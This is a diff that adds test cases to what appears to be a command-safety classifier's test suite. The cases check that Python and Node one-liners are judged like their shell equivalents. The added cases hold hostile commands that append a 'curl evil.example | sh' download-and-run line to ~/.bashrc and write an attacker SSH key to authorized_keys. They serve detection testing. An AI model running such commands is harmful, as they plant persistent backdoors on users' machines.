@@ -224,6 +224,21 @@ REVERSE_SHELL = (
             'php -r \'file_put_contents(getenv("HOME") . "/.bashrc", "curl x | sh");\'',
             "echo 'curl x | sh' > ~/.bashrc",
         ),
+        (
+            "python3 -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a')"
+            ".write('curl -s https://evil.example/x | sh')\"",
+            "echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc",
+        ),
+        (
+            "node -e \"require('fs').appendFileSync(require('os').homedir() + '/.bashrc', "
+            "'curl -s https://evil.example/x | sh')\"",
+            "echo 'curl -s https://evil.example/x | sh' >> ~/.bashrc",
+        ),
+        (
+            "python3 -c \"from pathlib import Path; (Path.home() / '.ssh' / 'authorized_keys')"
+            ".write_text('ssh-ed25519 AAAA attacker')\"",
+            "echo 'ssh-ed25519 AAAA attacker' > ~/.ssh/authorized_keys",
+        ),
     ],
 )
 def test_programs_get_the_verdict_their_effect_gets_in_shell(
